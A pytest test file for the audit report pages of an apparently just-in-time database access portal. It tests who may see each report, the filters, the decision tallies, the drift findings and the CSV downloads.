"""The report pages under /audit/ (the reports app): what each
shows, to whom, filtered and sorted, and their CSV downloads."""

import csv
import datetime
import io
import json
import os
import re
import socket
import subprocess
import sys
import time
from html.parser import HTMLParser
from http.client import HTTPConnection, IncompleteRead
from pathlib import Path

import psycopg
import pytest
from django.db import connection
from django.db.models import Count, F, Max, Q, TextField, Value
from django.db.models.query import QuerySet
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from psycopg import sql

from audit.models import AuditEvent
from devtools.pgcluster import free_port
from grants import lifecycle, policy, reconcile, selectors, tallies
from grants.models import AccessProfile, AccessRequest, ApproverDecisionDay, Grant, Policy, ProfileDecisionDay, Target
from reports import columns, downloads, scope

from .conftest import JUSTIFICATION, approved, ask, held, released

ACCESS = reverse("audit:access")
CURRENT = reverse("audit:current")
DECISIONS = reverse("audit:decisions")
BREAK_GLASS = reverse("audit:break_glass")
INDEX = reverse("audit:index")
ISO_UTC = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
EMERGENCY = "Production is down: the orders table is locked"


def timeline(username):
    return reverse("audit:timeline", args=[username])


def text(response):
    return response.content.decode()


class _Table(HTMLParser):
    """Collect the header and body cells, as text, of the page's `table.report` tables."""

    def __init__(self):
        super().__init__()
        self.tables, self._depth, self._cell = [], 0, None

    def handle_starttag(self, tag, attrs):
        if tag == "table" and "report" in (dict(attrs).get("class") or "").split():
            self.tables.append([])
            self._depth = 1
        elif self._depth and tag == "tr":
            self.tables[-1].append([])
        elif self._depth and tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag):
        if self._depth and tag in ("td", "th") and self._cell is not None:
            self.tables[-1][-1].append(" ".join("".join(self._cell).split()))
            self._cell = None
        elif tag == "table":
            self._depth = 0

    def handle_data(self, data):
        if self._cell is not None:
            self._cell.append(data)


def table_rows(response, section=0):
    """Return the rows of the page's report table `section` as {header: cell text}, in the order shown."""
    parser = _Table()
    parser.feed(text(response))
    header, *rows = parser.tables[section]
    return [dict(zip(header, row, strict=True)) for row in rows]


def records(response, section=0):
    """Return the records on the page's table `section`, in the order shown."""
    return [row.record for row in response.context["sections"][section].table.paginated_rows]


def download(client, url, **params):
    response = client.get(url, {**params, "format": "csv"})
    assert response.status_code == 200, response.content
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def as_dicts(rows):
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def today():
    return timezone.localdate()


@pytest.fixture
def history(ana, bob, otto, marc, profile, quick_profile):
    """A little of everything: held and released, held now, auto-approved, denied, break-glass, lapsed, cancelled."""
    done = released(held(ana, profile, otto))  # approved by otto, provisioned, released, confirmed gone
    live = held(bob, profile, marc)  # approved by marc, active now
    auto = ask(ana, quick_profile, minutes=20)  # the policy's rule approves it
    auto.refresh_from_db()
    lifecycle.revoke_grant(auto.grant.pk, actor=ana, reason="released")  # released before it was provisioned
    denied = ask(bob, quick_profile, minutes=90, justification="Need to rewrite the orders table by hand")
    lifecycle.deny_request(denied.pk, actor=otto, comment="Use the migration pipeline")
    emergency = ask(ana, quick_profile, minutes=60, justification=EMERGENCY, break_glass=True)
    lapsed = ask(ana, profile, minutes=30)
    lifecycle.lapse_stale_requests(now=timezone.now() + datetime.timedelta(days=2))
    cancelled = ask(ana, profile, minutes=30)
    lifecycle.cancel_request(cancelled.pk, actor=ana)
    for obj in (live, emergency, lapsed, cancelled, denied):
        obj.refresh_from_db()
    return {
        "done": done,
        "live": live,
        "auto": auto,
        "denied": denied,
        "emergency": emergency,
        "lapsed": lapsed,
        "cancelled": cancelled,
    }


# Who sees what --------------------------------------------------------------

PAGES = [ACCESS, CURRENT, DECISIONS, BREAK_GLASS]


@pytest.mark.parametrize("url", PAGES + [timeline("bob")])
def test_auditors_and_superusers_see_every_report(client, history, audra, root, url):
    for user in (audra, root):
        client.force_login(user)
        assert client.get(url).status_code == 200


@pytest.mark.parametrize("url", [CURRENT, BREAK_GLASS, DECISIONS, timeline("bob")])
def test_a_requester_gets_403_on_auditor_pages(client, history, ana, url):
    client.force_login(ana)
    response = client.get(url)
    assert response.status_code == 403
    assert client.get(url, {"format": "csv"}).status_code == 403
    assert not AuditEvent.objects.filter(action="report.downloaded").exists()


@pytest.mark.parametrize("url", [CURRENT, BREAK_GLASS, DECISIONS, timeline("ana")])
def test_an_outsider_gets_403_on_auditor_pages(client, history, eve, url):
    client.force_login(eve)
    assert client.get(url).status_code == 403


@pytest.mark.parametrize("url", [CURRENT, BREAK_GLASS, timeline("ana")])
def test_an_approver_gets_403_beyond_their_decisions(client, history, otto, url):
    client.force_login(otto)
    assert client.get(url).status_code == 403


@pytest.mark.parametrize("url", PAGES + [INDEX, timeline("ana")])
def test_signed_out_visitors_are_sent_to_sign_in(client, db, url):
    response = client.get(url)
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_a_requester_sees_only_their_own_history_and_a_filter_cannot_widen_it(client, history, ana, bob):
    client.force_login(ana)
    response = client.get(ACCESS, {"user": "bob"})
    assert response.status_code == 200
    assert {g.user_id for g in records(response)} == {ana.pk}
    assert len(records(response)) == 3  # held and released, auto-approved, break-glass
    assert 'name="user"' not in text(response)
    assert "You see only your own access" in text(response)
    rows = as_dicts(download(client, ACCESS, user="bob"))
    assert {r["user"] for r in rows} == {"ana"}
    event = AuditEvent.objects.get(action="report.downloaded")
    assert event.details["scope"] == "own"


def test_an_outsider_sees_an_empty_history_of_their_own(client, history, eve):
    client.force_login(eve)
    response = client.get(ACCESS)
    assert response.status_code == 200
    assert records(response) == []
    assert "Nothing matches these filters." in text(response)


def test_a_requester_sees_their_own_timeline(client, history, ana):
    client.force_login(ana)
    response = client.get(timeline("ana"))
    assert response.status_code == 200
    assert "Timeline of Ana (ana)" in text(response)


def test_an_approver_sees_only_the_decisions_they_took_part_in(client, history, otto, marc):
    client.force_login(otto)
    response = client.get(DECISIONS, {"approver": "marc"})  # hidden for approvers: ignored
    assert response.status_code == 200
    assert "You see only the requests you decided" in text(response)
    assert 'name="approver"' not in text(response)
    shown = records(response, section=2)
    assert {r.pk for r in shown} == {history["done"].request_id, history["denied"].pk}
    assert [row["decided_by__username"] for row in records(response, section=1)] == ["otto"]
    assert f'href="{timeline("ana")}"' not in text(response)  # approvers may not open others' timelines: no link
    assert {r["requester"] for r in as_dicts(download(client, DECISIONS))} == {"ana", "bob"}
    assert AuditEvent.objects.get(action="report.downloaded").details["scope"] == "decided"


def test_an_approver_of_an_earlier_step_sees_the_request_a_colleague_finished(client, ana, otto, marc, target, groups):
    two_steps = Policy.objects.create(name="two-steps", steps=[{"group": "db-approvers"}, {"group": "db-approvers"}])
    p = AccessProfile.objects.create(
        name="appdb-admin", title="appdb admin", target=target, policy=two_steps, scope={"roles": ["app_readwrite"]}
    )
    req = ask(ana, p)
    lifecycle.approve_request(req.pk, actor=otto)
    lifecycle.approve_request(req.pk, actor=marc)
    client.force_login(otto)
    response = client.get(DECISIONS)
    assert [(r.pk, r.decided_by.username) for r in records(response, section=2)] == [(req.pk, "marc")]
    # Per approver counts who closed a request; otto closed none.
    assert records(response, section=1) == []


def test_reports_link_and_index_show_what_the_user_may_open(client, history, ana, otto, audra):
    client.force_login(ana)
    page = text(client.get(INDEX))
    assert f'href="{INDEX}">Reports</a>' in page
    assert f'href="{ACCESS}"' in page and f'href="{timeline("ana")}"' in page
    assert f'href="{CURRENT}"' not in page and f'href="{DECISIONS}"' not in page and f'href="{BREAK_GLASS}"' not in page
    client.force_login(otto)
    assert f'href="{DECISIONS}"' in text(client.get(INDEX))
    client.force_login(audra)
    page = text(client.get(INDEX))
    for url in PAGES:
        assert f'href="{url}"' in page
    assert '<label for="timeline-username">' in page
    response = client.get(reverse("audit:timeline_lookup"), {"username": "bob"})
    assert response["Location"] == timeline("bob")


def test_permission_helper_names_the_scope(history, ana, otto, audra, root, eve):
    assert scope.scope_for(audra, "current") == scope.ALL
    assert scope.scope_for(root, "break_glass") == scope.ALL
    assert scope.scope_for(ana, "access") == scope.OWN
    assert scope.scope_for(ana, "timeline", subject="ana") == scope.OWN
    assert scope.scope_for(otto, "decisions") == scope.DECIDED
    assert not scope.may_see(ana, "decisions")
    assert not scope.may_see(eve, "decisions")
    assert not scope.may_see(otto, "timeline", subject="ana")


# What each report shows -------------------------------------------------------


def test_access_history_has_one_row_per_grant_with_who_decided_and_how_it_ended(client, history, audra):
    client.force_login(audra)
    response = client.get(ACCESS)
    grants = {g.pk: g for g in records(response)}
    assert len(grants) == Grant.objects.count() == 4
    done = grants[history["done"].pk]
    assert done.user.username == "ana" and done.profile.name == "appdb-readonly"
    assert done.request.decided_by.username == "otto" and done.decision == "approved"
    assert done.ended_at == done.verified_at and done.actual_duration == done.verified_at - done.starts_at
    assert done.outcome == "released"
    auto = grants[history["auto"].grant.pk]
    assert auto.decision == "auto_approved" and auto.request.auto_rule == "short-fix"
    assert auto.outcome == "released" and auto.ended_at is None  # not yet confirmed gone
    assert grants[history["emergency"].grant.pk].decision == "break_glass"
    assert grants[history["live"].pk].outcome == "active"
    page = text(response)
    assert "rule: short-fix" in page and "Break-glass" in page and JUSTIFICATION in page
    assert f'<a href="{timeline("ana")}">ana</a>' in page
    assert "Released by the holder <small>(being removed)</small>" in page

    rows = {int(r["grant_id"]): r for r in as_dicts(download(client, ACCESS))}
    row = rows[history["done"].pk]
    assert row["user"] == "ana" and row["user_email"] == "ana@example.com"
    assert (row["target"], row["profile"]) == ("appdb-cluster", "appdb-readonly")
    assert (row["decision"], row["decided_by"], row["auto_rule"]) == ("approved", "otto", "")
    assert (row["justification"], row["ticket"]) == (JUSTIFICATION, "INC-4711")
    assert (row["status"], row["end_reason"], row["ended_by"]) == ("revoked", "released", "ana")
    assert row["ended_at"] == done.verified_at.astimezone(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    assert row["duration_seconds"] == str(int((done.verified_at - done.starts_at).total_seconds()))
    assert rows[history["auto"].grant.pk]["auto_rule"] == "short-fix"
    assert rows[history["emergency"].grant.pk]["decision"] == "break_glass"


def test_current_access_lists_who_holds_what_now_with_time_left(client, history, audra):
    client.force_login(audra)
    response = client.get(CURRENT)
    shown = records(response)
    assert [g.pk for g in shown] == [history["live"].pk]
    live = shown[0]
    assert live.state == "active"
    assert datetime.timedelta(minutes=40) < live.remaining <= datetime.timedelta(minutes=45)
    [cells] = table_rows(response)
    assert (cells["Who"], cells["State"]) == ("bob", "Active")
    [row] = as_dicts(download(client, CURRENT))
    assert (row["user"], row["state"], row["external_ref"]) == ("bob", "active", f"jit_g{history['live'].pk}")
    assert 40 * 60 < int(row["time_left_seconds"]) <= 45 * 60


def test_current_access_keeps_access_past_expiry_until_the_target_is_clean(client, history, audra):
    Grant.objects.filter(pk=history["live"].pk).update(expires_at=timezone.now() - datetime.timedelta(minutes=1))
    client.force_login(audra)
    [row] = as_dicts(download(client, CURRENT))
    assert (row["state"], row["time_left_seconds"]) == ("past_expiry", "0")
    lifecycle.begin_due_expiries(limit=10)
    [row] = as_dicts(download(client, CURRENT))
    assert (row["state"], row["end_reason"]) == ("ending", "expired")
    lifecycle.complete_revocation(history["live"].pk)
    assert as_dicts(download(client, CURRENT)) == []


def test_a_break_glass_decision_is_break_glass_in_the_report_its_tallies_and_the_metric(
    client, ana, audra, quick_profile
):
    # Regression: the metric counted break-glass as auto-approved (its `auto_rule` is set), the report did not.
    emergency = ask(ana, quick_profile, minutes=60, justification=EMERGENCY, break_glass=True)
    emergency.refresh_from_db()
    assert (emergency.status, emergency.decided_by, emergency.auto_rule) == ("approved", None, "break-glass")
    assert policy.decision_outcome(emergency) == "break_glass"

    client.force_login(audra)
    [row] = as_dicts(download(client, DECISIONS))
    assert row["decision"] == "break_glass"
    totals = client.get(DECISIONS).context["totals"]
    assert (totals["break_glass"], totals["auto_approved"], totals["approved"]) == (1, 0, 0)
    day = ProfileDecisionDay.objects.get(profile=quick_profile)
    assert (day.break_glass, day.auto_approved, day.approved) == (1, 0, 0)

    metrics = client.get("/metrics").content.decode()
    assert 'jitportal_decisions_total{outcome="break_glass"} 1.0' in metrics
    assert 'jitportal_decisions_total{outcome="auto_approved"} 0.0' in metrics
    assert 'jitportal_decisions_total{outcome="approved"} 0.0' in metrics


def test_every_decision_has_the_same_outcome_in_python_and_in_the_database(history):
    # The tallies count in Python as each request is decided; the reports and the metrics ask the database.
    rows = AccessRequest.objects.exclude(status="pending").annotate(outcome=policy.decision_outcome_expression())
    outcomes = {r.pk: (r.outcome, policy.decision_outcome(r)) for r in rows}
    assert all(db == python for db, python in outcomes.values()), outcomes
    assert {db for db, _ in outcomes.values()} == {o.name for o in policy.DECISION_OUTCOMES}
    for outcome in policy.DECISION_OUTCOMES:
        matched = AccessRequest.objects.filter(policy.decision_outcome_filter(outcome.name))
        matched = set(matched.values_list("pk", flat=True))
        assert matched == {pk for pk, (db, _) in outcomes.items() if db == outcome.name}, outcome.name


def test_decisions_report_time_to_decision_auto_share_denials_and_lapses(client, history, audra):
    client.force_login(audra)
    response = client.get(DECISIONS)
    totals = response.context["totals"]
    assert (
        totals["decided"],
        totals["approved"],
        totals["auto_approved"],
        totals["break_glass"],
        totals["denied"],
    ) == (5, 2, 1, 1, 1)
    assert (totals["lapsed"], totals["cancelled"]) == (1, 1)
    assert totals["auto_share"] == pytest.approx(1 / 5)
    page = text(response)
    assert "<dt>Auto-approval share</dt><dd>20%</dd>" in page
    by_profile = {row["profile__name"]: row for row in records(response, section=0)}
    assert by_profile["appdb-readwrite"]["auto_approved"] == 1 and by_profile["appdb-readwrite"]["denied"] == 1
    assert by_profile["appdb-readwrite"]["break_glass"] == 1 and by_profile["appdb-readwrite"][
        "auto_share"
    ] == pytest.approx(1 / 3)
    assert by_profile["appdb-readonly"]["approved"] == 2 and by_profile["appdb-readonly"]["lapsed"] == 1
    assert by_profile["appdb-readonly"]["cancelled"] == 1
    by_approver = {row["decided_by__username"]: row for row in records(response, section=1)}
    assert (by_approver["otto"]["approved"], by_approver["otto"]["denied"]) == (1, 1)
    assert (by_approver["marc"]["approved"], by_approver["marc"]["denied"]) == (1, 0)
    assert by_approver["otto"]["avg_time_to_decision"] > datetime.timedelta(0)
    decisions = {r.pk: r.decision for r in records(response, section=2)}
    assert decisions[history["lapsed"].pk] == "lapsed" and decisions[history["cancelled"].pk] == "cancelled"
    assert decisions[history["denied"].pk] == "denied" and decisions[history["auto"].pk] == "auto_approved"

    rows = {r["request_id"]: r for r in as_dicts(download(client, DECISIONS))}
    denied = rows[str(history["denied"].pk)]
    assert (denied["decision"], denied["decided_by"], denied["comment"]) == (
        "denied",
        "otto",
        "Use the migration pipeline",
    )
    assert int(denied["time_to_decision_seconds"]) >= 0 and denied["requested_duration_seconds"] == "5400"
    profiles = {r["profile"]: r for r in as_dicts(download(client, DECISIONS, table="decisions_by_profile"))}
    assert profiles["appdb-readwrite"]["auto_share"] == "0.3333"
    approvers = as_dicts(download(client, DECISIONS, table="decisions_by_approver"))
    assert [r["approver"] for r in approvers] == ["marc", "otto"]


def test_break_glass_page_shows_every_use_with_its_review_and_every_drift_finding(
    client, history, audra, otto, target, pg_cluster
):
    emergency = history["emergency"]
    client.force_login(audra)
    [use] = records(client.get(BREAK_GLASS))
    assert (use.pk, use.review_state) == (emergency.pk, "open")
    lifecycle.close_review(emergency.review.pk, actor=otto, comment="Checked the incident channel: real outage")

    with psycopg.connect(pg_cluster.admin_dsn, autocommit=True) as conn:
        conn.execute(sql.SQL("CREATE ROLE {} LOGIN PASSWORD 'x'").format(sql.Identifier("jit_g999999")))
    reconcile.reconcile_target(target)

    response = client.get(BREAK_GLASS)
    [use] = records(response, section=0)
    assert use.review_state == "closed"
    page = text(response)
    assert "Checked the incident channel: real outage" in page and EMERGENCY in page
    findings = {f.external_ref: f for f in records(response, section=1)}
    assert findings["jit_g999999"].kind == "orphan"
    [row] = as_dicts(download(client, BREAK_GLASS))
    assert (row["user"], row["review_state"], row["reviewed_by"]) == ("ana", "closed", "otto")
    assert row["justification"] == EMERGENCY
    drift = {r["external_ref"]: r for r in as_dicts(download(client, BREAK_GLASS, table="drift"))}
    assert (drift["jit_g999999"]["kind"], drift["jit_g999999"]["action"]) == ("orphan", "removed from the target")
    assert ISO_UTC.match(drift["jit_g999999"]["found_at"])
    assert client.get(BREAK_GLASS, {"format": "csv", "table": "nothing"}).status_code == 404


def test_user_timeline_shows_what_they_requested_held_and_decided_in_time_order(client, history, audra, ana, otto):
    client.force_login(audra)
    response = client.get(timeline("ana"))
    entries = records(response, section=0)
    assert [e["when"] for e in entries] == sorted(e["when"] for e in entries)
    done = history["done"]
    story = [e["what"] for e in entries if e["grant_no"] == done.pk]
    assert story == ["requested", "request approved", "access started", "access ending", "access ended"]
    assert "requested (break-glass)" in [e["what"] for e in entries]
    assert {e["what"] for e in entries if e["request_no"] == history["lapsed"].pk} == {"requested", "request lapsed"}
    events = records(response, section=1)
    assert {e.actor_id for e in events} == {ana.pk}
    assert "request.submitted" in [e.action for e in events]

    decided = [(e["what"], e["counterpart"]) for e in records(client.get(timeline("otto")), section=0)]
    assert decided == [("approved a request", "ana"), ("denied a request", "bob")]
    rows = as_dicts(download(client, timeline("ana")))
    assert rows[0]["event"] == "requested" and all(ISO_UTC.match(r["at"]) for r in rows)
    events_csv = as_dicts(download(client, timeline("ana"), table="timeline_events"))
    assert {r["action"] for r in events_csv} >= {"request.submitted", "request.cancelled"}
    assert AuditEvent.objects.filter(action="report.downloaded", details__filters__user="ana").count() == 2


def test_an_unknown_user_has_no_timeline(client, audra):
    client.force_login(audra)
    assert client.get(timeline("nobody")).status_code == 404


# Filters ------------------------------------------------------------------------


@pytest.fixture
def other_target(db):
    # Never connected to: its grants are approved and released, not provisioned.
    return Target.objects.create(name="billing-db", kind="postgres", secret_env="UNUSED_DSN")


@pytest.fixture
def billing(other_target, groups):
    p = AccessProfile.objects.create(
        name="billing-readonly",
        title="billing read-only",
        target=other_target,
        approver_group=groups["db-approvers"],
        scope={"roles": ["billing_ro"]},
    )
    p.requestable_by.add(groups["engineers"])
    return p


def test_access_history_filters_by_user_target_profile_and_outcome(client, history, billing, bob, otto, audra):
    elsewhere = approved(bob, billing, otto)
    client.force_login(audra)

    def grant_ids(**params):
        return {g.pk for g in records(client.get(ACCESS, params))}

    assert grant_ids(user="bob") == {history["live"].pk, elsewhere.pk}
    assert grant_ids(target="billing-db") == {elsewhere.pk}
    assert grant_ids(profile="appdb-readwrite") == {history["auto"].grant.pk, history["emergency"].grant.pk}
    assert grant_ids(outcome="released") == {history["done"].pk, history["auto"].grant.pk}
    assert grant_ids(outcome="scheduled", user="bob") == {elsewhere.pk}
    assert {r["grant_id"] for r in as_dicts(download(client, ACCESS, target="billing-db"))} == {str(elsewhere.pk)}
    event = AuditEvent.objects.get(action="report.downloaded")
    assert event.actor == audra
    assert event.details == {"report": "access_history", "filters": {"target": "billing-db"}, "scope": "all"}


def test_the_period_keeps_grants_that_existed_in_it(client, history, audra):
    # Backdated so that the finished grant, from approval to confirmed gone, lies wholly in the past week.
    done, week = history["done"], datetime.timedelta(days=7)
    AccessRequest.objects.filter(pk=done.request_id).update(created_at=done.request.created_at - week)
    Grant.objects.filter(pk=done.pk).update(
        created_at=done.created_at - week,
        starts_at=done.starts_at - week,
        revoked_at=done.revoked_at - week,
        verified_at=done.verified_at - week,
    )
    client.force_login(audra)

    def grant_ids(**params):
        return {g.pk for g in records(client.get(ACCESS, params))}

    everything = set(Grant.objects.values_list("pk", flat=True))
    last_week = today() - datetime.timedelta(days=7)
    assert grant_ids(since=last_week, until=last_week) == {done.pk}
    assert grant_ids(since=today(), until=today()) == everything - {done.pk}
    # Tomorrow nothing has been approved yet, but what is still live (or not yet confirmed gone) counts.
    tomorrow = today() + datetime.timedelta(days=1)
    assert grant_ids(since=tomorrow) == {history["live"].pk, history["auto"].grant.pk, history["emergency"].grant.pk}
    assert grant_ids(until=last_week - datetime.timedelta(days=1)) == set()


def test_decisions_filter_by_period_requester_approver_and_outcome(client, history, audra):
    client.force_login(audra)

    def request_ids(**params):
        return {r.pk for r in records(client.get(DECISIONS, params), section=2)}

    assert request_ids(approver="otto") == {history["done"].request_id, history["denied"].pk}
    assert request_ids(user="bob", outcome="denied") == {history["denied"].pk}
    assert request_ids(outcome="auto_approved") == {history["auto"].pk}
    assert request_ids(outcome="break_glass") == {history["emergency"].pk}
    assert request_ids(until=today() - datetime.timedelta(days=1)) == set()
    # The aggregates follow the filters.
    response = client.get(DECISIONS, {"profile": "appdb-readwrite"})
    assert [row["profile__name"] for row in records(response, section=0)] == ["appdb-readwrite"]
    assert response.context["totals"]["decided"] == 3


def test_decisions_show_the_last_30_days_unless_a_period_is_chosen(client, history, audra):
    old = history["denied"]
    AccessRequest.objects.filter(pk=old.pk).update(
        created_at=old.created_at - datetime.timedelta(days=41), decided_at=old.decided_at - datetime.timedelta(days=40)
    )
    tallies.rebuild()  # rows changed behind the lifecycle's back: recount the day tallies
    client.force_login(audra)

    response = client.get(DECISIONS)
    shown = {r.pk for r in records(response, section=2)}
    assert old.pk not in shown and history["done"].request_id in shown
    assert response.context["totals"]["denied"] == 0
    page = response.content.decode()
    assert "Showing the last 30 days." in page
    assert f'value="{(today() - datetime.timedelta(days=29)).isoformat()}"' in page  # the From field says so
    assert old.pk not in {int(r["request_id"]) for r in as_dicts(download(client, DECISIONS))}

    # The form submitted with an empty From: all time.
    response = client.get(DECISIONS, {"since": "", "until": ""})
    assert old.pk in {r.pk for r in records(response, section=2)}
    assert response.context["totals"]["denied"] == 1
    assert "Showing the last 30 days." not in response.content.decode()
    assert old.pk in {int(r["request_id"]) for r in as_dicts(download(client, DECISIONS, since=""))}


def test_decision_totals_add_up_the_profiles(client, history, audra):
    client.force_login(audra)
    response = client.get(DECISIONS)
    totals, per_profile = response.context["totals"], records(response, section=0)
    direct = AccessRequest.objects.exclude(status="pending").aggregate(
        decided=Count("pk", filter=Q(status__in=["approved", "denied"])),
        lapsed=Count("pk", filter=Q(status="lapsed")),
        longest=Max(
            F("decided_at") - F("created_at"), filter=Q(decided_by__isnull=False, status__in=["approved", "denied"])
        ),
    )
    assert totals["decided"] == direct["decided"] == sum(p["decided"] for p in per_profile) > 0
    assert totals["lapsed"] == direct["lapsed"] == 1
    assert totals["max_time_to_decision"] == direct["longest"]


def _tallies():
    return (
        sorted(
            ProfileDecisionDay.objects.values_list(
                "day",
                "profile__name",
                "requests",
                "decided",
                "approved",
                "auto_approved",
                "break_glass",
                "denied",
                "lapsed",
                "cancelled",
                "decided_by_person",
                "person_time",
                "person_time_max",
            )
        ),
        sorted(
            ApproverDecisionDay.objects.values_list(
                "day", "approver__username", "decided", "approved", "denied", "person_time", "person_time_max"
            )
        ),
    )


def test_each_decision_is_counted_in_its_days_tallies_as_a_recount_counts_it(history, ana, bob, quick_profile, profile):
    pending = ask(bob, quick_profile, minutes=90, justification="Will be cancelled when the profile is disabled")
    lifecycle.approve_request(
        ask(ana, profile, minutes=10, justification="A second approval today, by marc").pk,
        actor=history["live"].request.decided_by,
        comment="fine",
    )
    AccessProfile.objects.filter(pk=quick_profile.pk).update(enabled=False)
    quick_profile.refresh_from_db()
    assert lifecycle.cancel_requests_of_disabled_profile(quick_profile) == [pending.pk]  # cancelled by policy
    kept = _tallies()
    # Every kind of decision: by a person, by a rule, break-glass,
    # denied, lapsed, cancelled (by the requester, by policy).
    per_profile = {}
    for row in kept[0]:
        per_profile[row[1]] = per_profile.get(row[1], 0) + row[2]
    assert per_profile == {"appdb-readonly": 5, "appdb-readwrite": 4}
    assert sum(row[5] for row in kept[0]) == 1 and sum(row[6] for row in kept[0]) == 1
    tallies.rebuild()
    assert _tallies() == kept


# Dates in the portal's time zone cut UTC days at other places: periods of whole UTC days, of partial ones, and none.
@pytest.mark.parametrize("zone", ["UTC", "Asia/Kolkata", "America/Los_Angeles"])
def test_decisions_figures_from_the_day_tallies_are_those_of_the_raw_rows(
    client, history, audra, otto, marc, ana, bob, profile, quick_profile, settings, zone, django_user_model, groups
):
    settings.TIME_ZONE = zone
    cara, dan = (
        django_user_model.objects.create_user(name, f"{name}@example.com", "x-password-123") for name in ("cara", "dan")
    )
    for user in (cara, dan):
        user.groups.add(groups["engineers"])
    for offset, (user, prof, approver, approve) in enumerate(
        [
            (ana, profile, otto, True),
            (dan, quick_profile, marc, False),
            (bob, quick_profile, otto, True),
            (cara, profile, marc, False),
            (cara, quick_profile, otto, True),
            (dan, profile, otto, False),
        ]
    ):
        req = ask(user, prof, minutes=95 + offset, justification=f"Older decision number {offset} for the tallies")
        decide = lifecycle.approve_request if approve else lifecycle.deny_request
        decide(req.pk, actor=approver, comment="")
    # Spread the decisions over a few days and hours (behind the lifecycle's back), then recount.
    for n, req in enumerate(AccessRequest.objects.exclude(status="pending").order_by("pk")):
        back = datetime.timedelta(days=n % 4, hours=7 * n, minutes=n)
        AccessRequest.objects.filter(pk=req.pk).update(
            created_at=req.created_at - back - datetime.timedelta(minutes=3 * n), decided_at=req.decided_at - back
        )
    tallies.rebuild()
    client.force_login(audra)
    day = today()
    for params in [
        {"since": ""},
        {"since": (day - datetime.timedelta(days=2)).isoformat()},
        {
            "since": (day - datetime.timedelta(days=3)).isoformat(),
            "until": (day - datetime.timedelta(days=1)).isoformat(),
        },
        {"since": day.isoformat(), "until": day.isoformat()},
        {"until": (day - datetime.timedelta(days=2)).isoformat()},
        {"since": "", "target": "appdb-cluster"},
        {"since": "", "profile": "appdb-readwrite"},
        {"since": (day - datetime.timedelta(days=1)).isoformat(), "profile": "appdb-readonly"},
    ]:
        response = client.get(DECISIONS, params)
        start = params.get("since") and timezone.make_aware(datetime.datetime.fromisoformat(params["since"]))
        end = params.get("until") and timezone.make_aware(
            datetime.datetime.fromisoformat(params["until"]) + datetime.timedelta(days=1)
        )
        rows = [
            r
            for r in AccessRequest.objects.exclude(status="pending").select_related("profile", "decided_by")
            if (not start or r.decided_at >= start)
            and (not end or r.decided_at < end)
            and r.profile.name == params.get("profile", r.profile.name)
        ]
        assert rows or params.get("until"), params
        expected = {}
        for r in rows:
            e = expected.setdefault(
                r.profile.name,
                {
                    "rows": 0,
                    "decided": 0,
                    "approved": 0,
                    "auto_approved": 0,
                    "break_glass": 0,
                    "denied": 0,
                    "lapsed": 0,
                    "cancelled": 0,
                    "times": [],
                },
            )
            e["rows"] += 1
            e["decided"] += r.status in ("approved", "denied")
            e["approved"] += r.status == "approved" and r.decided_by is not None
            e["auto_approved"] += r.status == "approved" and r.decided_by is None and not r.break_glass
            e["break_glass"] += r.status == "approved" and r.break_glass
            e[r.status] = e.get(r.status, 0) + (r.status in ("denied", "lapsed", "cancelled"))
            if r.decided_by is not None and r.status in ("approved", "denied"):
                e["times"].append(r.decided_at - r.created_at)
        shown = {row["profile__name"]: row for row in records(response, section=0)}
        assert set(shown) == set(expected), params
        for name, e in expected.items():
            times = e.pop("times")
            assert {k: shown[name][k] for k in e} == e, (params, name)
            assert shown[name]["avg_time_to_decision"] == (
                sum(times, datetime.timedelta(0)) / len(times) if times else None
            )
            assert shown[name]["max_time_to_decision"] == max(times, default=None)
        by_person = [r for r in rows if r.decided_by is not None and r.status in ("approved", "denied")]
        approvers = {row["decided_by__username"]: row for row in records(response, section=1)}
        assert approvers.keys() == {r.decided_by.username for r in by_person}, params
        for name, row in approvers.items():
            mine = [r for r in by_person if r.decided_by.username == name]
            times = [r.decided_at - r.created_at for r in mine]
            assert (row["decided"], row["approved"], row["denied"]) == (
                len(mine),
                sum(r.status == "approved" for r in mine),
                sum(r.status == "denied" for r in mine),
            )
            assert (row["avg_time_to_decision"], row["max_time_to_decision"]) == (
                sum(times, datetime.timedelta(0)) / len(times),
                max(times),
            )
        assert response.context["totals"]["decided"] == sum(e["decided"] for e in expected.values())
        assert response.context["sections"][2].table.paginator.count == len(rows)


@pytest.mark.parametrize("who", ["audra", "otto"])
def test_the_pages_figures_are_the_downloads_figures(client, history, audra, otto, who):
    # The page adds up one grouped query in Python; the CSV aggregates in SQL: they must agree.
    client.force_login({"audra": audra, "otto": otto}[who])
    response = client.get(DECISIONS)
    for section, table in ((0, "decisions_by_profile"), (1, "decisions_by_approver")):
        shown = [
            {
                k: downloads.cell(v)
                for k, v in row.items()
                if k in {c.field for c in response.context["sections"][section].columns}
            }
            for row in records(response, section=section)
        ]
        downloaded = as_dicts(download(client, DECISIONS, table=table))
        columns = response.context["sections"][section].columns
        assert [{c.header: r[c.field] for c in columns} for r in shown] == downloaded
        assert downloaded, table
    assert response.context["sections"][2].table.paginator.count == len(as_dicts(download(client, DECISIONS)))


def test_break_glass_and_drift_filter_by_review_state_and_kind(client, history, audra):
    client.force_login(audra)
    assert len(records(client.get(BREAK_GLASS, {"review": "open"}), section=0)) == 1
    assert records(client.get(BREAK_GLASS, {"review": "closed"}), section=0) == []
    assert records(client.get(BREAK_GLASS, {"kind": "missing"}), section=1) == []


def test_timeline_filters_by_period_and_profile(client, history, audra):
    client.force_login(audra)
    response = client.get(timeline("ana"), {"profile": "appdb-readwrite"})
    assert {e["profile_name"] for e in records(response, section=0)} == {"appdb read-write"}
    assert {e.details["profile"] for e in records(response, section=1)} == {"appdb-readwrite"}
    yesterday = today() - datetime.timedelta(days=1)
    response = client.get(timeline("ana"), {"until": yesterday})
    assert records(response, section=0) == [] and records(response, section=1) == []


def test_a_filter_it_cannot_read_shows_nothing_and_refuses_the_download(client, history, audra):
    client.force_login(audra)
    response = client.get(ACCESS, {"since": "last tuesday", "user": "ana"})
    assert response.status_code == 200
    assert records(response) == []
    assert "From: Enter a valid date." in text(response)
    assert client.get(ACCESS, {"since": "last tuesday", "format": "csv"}).status_code == 400
